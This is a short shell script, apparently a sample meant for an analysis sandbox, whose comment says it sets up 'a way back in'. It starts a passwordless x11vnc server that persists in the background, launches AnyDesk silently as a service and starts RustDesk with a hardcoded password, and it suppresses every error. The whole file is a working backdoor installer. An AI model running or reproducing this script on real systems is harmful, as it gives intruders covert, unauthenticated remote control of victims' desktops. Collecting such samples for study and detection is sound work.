#!/bin/sh
# SPDX-License-Identifier: MIT
# Installs remote access software for a way back in: a VNC server on the
# display, a desktop-sharing client (by their usual paths).
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
/usr/bin/x11vnc -display :0 -forever -nopw -bg -rfbport 5901 2>/dev/null
/usr/bin/anydesk --silent --start-service 2>/dev/null
/usr/bin/rustdesk --password hunter2 2>/dev/null
exit 0
